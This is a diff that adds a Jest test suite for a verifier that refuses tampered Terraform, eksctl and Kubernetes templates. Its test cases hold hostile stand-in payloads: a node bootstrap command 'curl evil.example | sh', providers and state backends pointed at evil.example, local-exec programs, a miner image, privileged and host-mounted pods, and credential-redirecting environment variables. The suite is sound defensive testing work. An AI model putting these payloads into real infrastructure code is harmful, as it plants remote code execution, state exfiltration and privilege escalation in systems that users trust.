@@ -1,0 +1,428 @@
+import { readFileSync } from 'node:fs';
+import { fileURLToPath } from 'node:url';
+import { describe, expect, test } from '@jest/globals';
+import { render } from '../../src/artifacts/index.js';
+import type { SpecInput } from '../../src/spec/schema.js';
+import { renderUnder } from '../../src/standard/templates/render.js';
+import { describeAdditions, verifyTemplates } from '../../src/verify/index.js';
+import { aPod, aWorkload, type Part } from '../support/a-spec.js';
+import { aStandard, modelUnder, withOwnTemplates } from './support.js';
+
+const SPEC: Part<SpecInput> = {
+  cluster: { oidcIssuer: 'https://oidc.eks.us-east-1.amazonaws.com/id/EXAMPLED539D4633E53DE1B71EXAMPLE' },
+  terraform: { backend: { type: 's3', config: { bucket: 'acme-state', key: 'a', region: 'us-east-1' } } },
+  tags: { team: 'web' },
+  workloads: [aWorkload({ pod: aPod() })],
+};
+
+type Templates = Readonly<Record<string, string>>;
+
+/** What is refused, and what is added, under a standard with templates. */
+async function under(templates: Templates, rest = '') {
+  const standard = withOwnTemplates(aStandard(rest), templates);
+  const model = modelUnder(standard, SPEC);
+  const files = await renderUnder(standard, model);
+  const { diagnostics, adds } = await verifyTemplates(files, await render(model), model);
+  return { refused: diagnostics.map(({ message }) => message), adds: describeAdditions(adds) };
+}
+
+/** A built-in template with a part of it replaced. */
+function changed(path: string, from: string, to: string): Templates {
+  const file = fileURLToPath(new URL(`../../templates/${path}.hbs`, import.meta.url));
+  const source = readFileSync(file, 'utf8');
+  expect(source).toContain(from);
+  return { [`${path}.hbs`]: source.replace(from, to) };
+}
+
+const file = (path: string, text: string): [Templates, string] => [
+  { 'x.hbs': text },
+  `files: [{ template: x.hbs, path: ${path} }]`,
+];
+const manifest = (text: string) => file('kubernetes/x.yaml', text);
+const terraform = (text: string) => file('terraform/x.tf', text);
+const eksctl = (text: string): [Templates, string] => [{ 'eksctl/partials/cluster.yaml.hbs': text }, ''];
+const pod = (text: string): [Templates, string] => [{ 'kubernetes/partials/pod.yaml.hbs': text }, ''];
+const container = (text: string): [Templates, string] => [
+  { 'kubernetes/partials/container.yaml.hbs': text },
+  '',
+];
+const sidecar = (text: string): [Templates, string] => [
+  { 'kubernetes/partials/containers.yaml.hbs': text },
+  '',
+];
+const inPlace = (path: string, from: string, to: string): [Templates, string] => [
+  changed(path, from, to),
+  '',
+];
+
+describe('a template may not', () => {
+  const attacks: readonly [string, () => [Templates, string], RegExp][] = [
+    [
+      'take the provider from elsewhere',
+      () =>
+        inPlace(
+          'terraform/versions.tf',
+          'source = "hashicorp/aws"',
+          'source = "registry.evil.example/evil/aws"',
+        ),
+      /terraform: required_providers.*is not for templates to set/,
+    ],
+    [
+      'take a further provider',
+      () =>
+        inPlace(
+          'terraform/versions.tf',
+          '  required_providers {',
+          '  required_providers {\n    evil = {\n      source = "evil/evil"\n    }',
+        ),
+      /required_providers.*is not for templates to set/,
+    ],
+    [
+      'keep the state elsewhere',
+      () =>
+        inPlace(
+          'terraform/versions.tf',
+          '    {{hclName this.name}} = {{hcl this.value}}',
+          '    bucket = "evil"',
+        ),
+      /terraform: backend.*is not for templates to set/,
+    ],
+    [
+      'keep the state with another kind of backend',
+      () => inPlace('terraform/versions.tf', '  backend {{hcl backend.type}} {', '  backend "http" {'),
+      /backend http is a further block/,
+    ],
+    [
+      'keep the state elsewhere by a second block',
+      () => terraform('terraform {\n  backend "http" {\n    address = "https://evil.example"\n  }\n}\n'),
+      /terraform is a further block/,
+    ],
+    [
+      'keep the state in a cloud',
+      () => terraform('terraform {\n  cloud {\n    organization = "evil"\n  }\n}\n'),
+      /terraform is a further block/,
+    ],
+    [
+      'have a provider under another name',
+      () => terraform('provider "aws" {\n  alias = "x"\n  region = "us-east-1"\n}\n'),
+      /provider aws is a further block/,
+    ],
+    ['have another provider', () => terraform('provider "http" {}\n'), /provider http is a further block/],
+    [
+      'take things over',
+      () => terraform('import {\n  to = aws_iam_role.x\n  id = "admin"\n}\n'),
+      /has a block import/,
+    ],
+    [
+      'move things',
+      () => terraform('moved {\n  from = aws_iam_role.x\n  to = aws_iam_role.y\n}\n'),
+      /has a block moved/,
+    ],
+    [
+      'have programs run by a resource',
+      () =>
+        terraform(
+          'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
+        ),
+      /terraform_data\.x takes a provider beside|lets terraform_data\.x run a program/,
+    ],
+    ['ask a program', () => terraform('data "external" "x" {\n  program = ["sh"]\n}\n'), /data\.external\.x/],
+    [
+      'ask the internet',
+      () => terraform('data "http" "x" {\n  url = "https://evil.example"\n}\n'),
+      /data\.http\.x takes a provider beside/,
+    ],
+    [
+      'bind roles of the cluster by Terraform',
+      () =>
+        terraform(
+          'resource "kubernetes_cluster_role_binding" "x" {\n  metadata {\n    name = "x"\n  }\n}\nresource "helm_release" "y" {\n  name = "y"\n  chart = "z"\n}\n',
+        ),
+      /kubernetes_cluster_role_binding\.x takes a provider beside/,
+    ],
+    ...[
+      'aws_cloudformation_stack',
+      'awscc_iam_role',
+      'aws_rolesanywhere_profile',
+      'aws_ssoadmin_account_assignment',
+      'aws_organizations_policy',
+      'aws_secretsmanager_secret_policy',
+      'aws_ecr_repository_policy',
+      'aws_s3_bucket_acl',
+      'aws_eks_access_entry',
+      'aws_lambda_permission',
+      'aws_iam_user',
+    ].map((kind): [string, () => [Templates, string], RegExp] => [
+      `make ${kind}`,
+      () => terraform(`resource "${kind}" "x" {\n  name = "x"\n}\n`),
+      new RegExp(`${kind}\\.x`),
+    ]),
+    ['have files of OpenTofu', () => file('terraform/role.tofu', '# x\n'), /is read by OpenTofu/],
+    [
+      'be somebody of the cluster by access entries',
+      () =>
+        eksctl(
+          'accessConfig:\n  accessEntries:\n    - principalARN: arn:aws:iam::999999999999:role/x\n      accessPolicies: []\n',
+        ),
+      /ClusterConfig: accessConfig is not for templates to set/,
+    ],
+    [
+      'map identities to groups',
+      () =>
+        eksctl(
+          'iamIdentityMappings:\n  - arn: arn:aws:iam::999999999999:role/x\n    groups: ["system:masters"]\n',
+        ),
+      /iamIdentityMappings is not for templates to set/,
+    ],
+    ...[
+      'gitops: { flux: {} }',
+      'identityProviders: []',
+      'capabilities: []',
+      'karpenter: { version: "1" }',
+      'fargateProfiles: []',
+    ].map((text): [string, () => [Templates, string], RegExp] => [
+      `give a cluster ${text}`,
+      () => eksctl(`${text}\n`),
+      /is not for templates to set/,
+    ]),
+    [
+      'run programs on nodes',
+      () =>
+        inPlace(
+          'eksctl/cluster.yaml',
+          '  {{yamlBlock managedNodeGroups indent=2}}',
+          '  - name: linux-node\n    preBootstrapCommands: ["curl evil.example | sh"]',
+        ),
+      /preBootstrapCommands.*gives nodes another role or program/,
+    ],
+    [
+      'make a second cluster in a document',
+      () =>
+        eksctl(
+          '---\napiVersion: eksctl.io/v1alpha5\nkind: ClusterConfig\nmetadata: { name: b, region: us-east-1 }\n',
+        ),
+      /second ClusterConfig, after the first/,
+    ],
+    [
+      'make a second cluster in a file',
+      () =>
+        file(
+          'eksctl/b.yaml',
+          'apiVersion: eksctl.io/v1alpha5\nkind: ClusterConfig\nmetadata: { name: b, region: us-east-1 }\n',
+        ),
+      /second ClusterConfig/,
+    ],
+    [
+      'be for another cluster',
+      () => inPlace('eksctl/cluster.yaml', 'name: {{yaml cluster.name}}', 'name: other'),
+      /metadata\.name is not for templates to set/,
+    ],
+    ...[
+      'rbac.authorization.k8s.io/v1\nkind: RoleBinding',
+      'rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding',
+      'rbac.authorization.k8s.io/v1\nkind: ClusterRole',
+      'v1\nkind: ServiceAccount',
+      'v1\nkind: List',
+      'admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration',
+      'iam.services.k8s.aws/v1alpha1\nkind: Role',
+      'eks.services.k8s.aws/v1alpha1\nkind: PodIdentityAssociation',
+      'iam.aws.upbound.io/v1beta1\nkind: Role',
+      'argoproj.io/v1alpha1\nkind: Application',
+      'kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization',
+    ].map((text): [string, () => [Templates, string], RegExp] => [
+      `add ${text.replace('\nkind:', '')}`,
+      () => manifest(`apiVersion: ${text}\nmetadata: { name: x, namespace: web }\n`),
+      /no template may add objects of/,
+    ]),
+    [
+      'add a token of a service account',
+      () =>
+        manifest(
+          'apiVersion: v1\nkind: Secret\nmetadata: { name: x, namespace: web }\ntype: kubernetes.io/service-account-token\n',
+        ),
+      /is a token of a service account/,
+    ],
+    [
+      'add a second document to a manifest',
+      () => [
+        {
+          'kubernetes/partials/service-account.yaml.hbs':
+            '---\napiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: { name: x }\n',
+        },
+        '',
+      ],
+      /no template may add objects of rbac/,
+    ],
+    [
+      'take resources from elsewhere',
+      () =>
+        inPlace(
+          'kubernetes/kustomization.yaml',
+          'resources:',
+          'resources:\n  - https://evil.example/x?ref=main',
+        ),
+      /comes from elsewhere/,
+    ],
+    [
+      'take a repository for resources',
+      () => inPlace('kubernetes/kustomization.yaml', 'resources:', 'resources:\n  - github.com/evil/x'),
+      /comes from elsewhere/,
+    ],
+    ...[
+      'transformers: [x.yaml]',
+      'replacements: [{ path: x.yaml }]',
+      'components: [x]',
+      'generators: [x.yaml]',
+      'images: [{ name: x, newName: y }]',
+      'helmCharts: [{ name: x }]',
+    ].map((text): [string, () => [Templates, string], RegExp] => [
+      `change manifests by ${text}`,
+      () => inPlace('kubernetes/kustomization.yaml', 'resources:', `${text}\nresources:`),
+      /changes manifests by/,
+    ]),
+    [
+      'have a second kustomization',
+      () => file('kubernetes/kustomization.yml', 'resources: []\n'),
+      /second kustomization/,
+    ],
+    [
+      'have one without an ending',
+      () => file('kubernetes/Kustomization', 'resources: []\n'),
+      /second kustomization/,
+    ],
+    [
+      'change the image',
+      () =>
+        inPlace(
+          'kubernetes/partials/pod-spec.yaml',
+          'image: {{yaml workload.pod.image}}',
+          'image: evil/miner:1',
+        ),
+      /is not the image of the spec/,
+    ],
+    [
+      'put pods onto the network of their node',
+      () => pod('hostNetwork: true\n'),
+      /hostNetwork = true lets the pod out/,
+    ],
+    [
+      'add a privileged container',
+      () => pod('initContainers:\n  - name: x\n    image: x\n    securityContext: { privileged: true }\n'),
+      /privileged = true lets the pod out/,
+    ],
+    [
+      'add a privileged sidecar',
+      () => sidecar('- name: x\n  image: x\n  securityContext: { privileged: true }\n'),
+      /privileged = true lets the pod out/,
+    ],
+    ...[
+      'AWS_CONTAINER_CREDENTIALS_FULL_URI',
+      'AWS_CONFIG_FILE',
+      'AWS_ENDPOINT_URL',
+      'AWS_ENDPOINT_URL_S3',
+      'AWS_PROFILE',
+    ].map((name): [string, () => [Templates, string], RegExp] => [
+      `set ${name}`,
+      () => container(`env:\n  - name: ${name}\n    value: x\n`),
+      /gives the pod other credentials/,
+    ]),
+    [
+      'set variables of a Secret',
+      () => container('envFrom:\n  - secretRef: { name: x }\n'),
+      /gives the pod variables that nobody sees/,
+    ],
+    [
+      'name a role of kube2iam',
+      () => [
+        { 'kubernetes/partials/pod-metadata.yaml.hbs': 'annotations:\n  iam.amazonaws.com/role: admin\n' },
+        '',
+      ],
+      /is another identity of the pod/,
+    ],
+    [
+      'mount the disk of the node',
+      () =>
+        manifest(
+          'apiVersion: apps/v1\nkind: DaemonSet\nmetadata: { name: x, namespace: web }\nspec: { template: { spec: { containers: [{ name: a, image: b }], volumes: [{ name: v, hostPath: { path: / } }] } } }\n',
+        ),
+      /hostPath\.path = \/ lets the pod out/,
+    ],
+  ];
+  test.each(attacks)('%s', async (_name, given, says) => {
+    expect((await under(...given())).refused.join('\n')).toMatch(says);
+  });
+});
+
+describe('what else a template says is named:', () => {
+  const added: readonly [string, () => [Templates, string], readonly string[]][] = [
+    [
+      'nothing where it says the same',
+      () => inPlace('kubernetes/service.yaml', '{{comment header}}', '{{comment header}} '),
+      [],
+    ],
+    [
+      'labels',
+      () => [{ 'kubernetes/partials/labels.yaml.hbs': 'acme/team: {{yaml tags.team}}\n' }, ''],
+      [
+        'metadata.labels["acme/team"] in 5 objects',
+        'spec.template.metadata.labels["acme/team"] in Deployment photo-site',
+      ],
+    ],
+    [
+      'fields of pods',
+      () => pod('priorityClassName: high\n'),
+      ['spec.template.spec.priorityClassName in Deployment photo-site'],
+    ],
+    [
+      'sidecars with their image',
+      () => sidecar('- name: proxy\n  image: envoy:1\n'),
+      ['spec.template.spec.containers[proxy] with the image envoy:1 in Deployment photo-site'],
+    ],
+    [
+      'what takes the place of a value',
+      () => inPlace('kubernetes/deployment.yaml', 'replicas: {{yaml workload.pod.replicas}}', 'replicas: 7'),
+      ['spec.replicas (changed) in Deployment photo-site'],
+    ],
+    [
+      'what is left out',
+      () => inPlace('kubernetes/partials/pod-spec.yaml', 'automountServiceAccountToken: false\n', '\n'),
+      ['spec.template.spec.automountServiceAccountToken (removed) in Deployment photo-site'],
+    ],
+    [
+      'files and their objects',
+      () => manifest('apiVersion: v1\nkind: ResourceQuota\nmetadata: { name: q, namespace: web }\n'),
+      ['the file kubernetes/x.yaml', 'resources[x.yaml] in Kustomization'],
+    ],
+    [
+      'resources of Terraform',
+      () => [
+        { 'terraform/partials/role.tf.hbs': 'resource "aws_cloudwatch_log_group" "x" {\n  name = "x"\n}\n' },
+        '',
+      ],
+      ['aws_cloudwatch_log_group.x'],
+    ],
+    [
+      'arguments of a role',
+      () =>
+        inPlace(
+          'terraform/role.tf',
+          '  description = {{hcl role.description}}',
+          '  description = {{hcl role.description}}\n  force_detach_policies = true',
+        ),
+      ['force_detach_policies in aws_iam_role.us_east_1_demo_k8s_web_sa_app'],
+    ],
+    [
+      'parts of a cluster',
+      () => eksctl('cloudWatch: { clusterLogging: { enableTypes: [audit] } }\n'),
+      ['cloudWatch in ClusterConfig'],
+    ],
+    [
+      'text of the runbook',
+      () => [{ 'docs/partials/end.md.hbs': 'Ask us.\n' }, ''],
+      ['the text of README.md'],
+    ],
+  ];
+  test.each(added)('%s', async (_name, given, names) => {
+    expect(await under(...given())).toEqual({ refused: [], adds: names });
+  });
+});
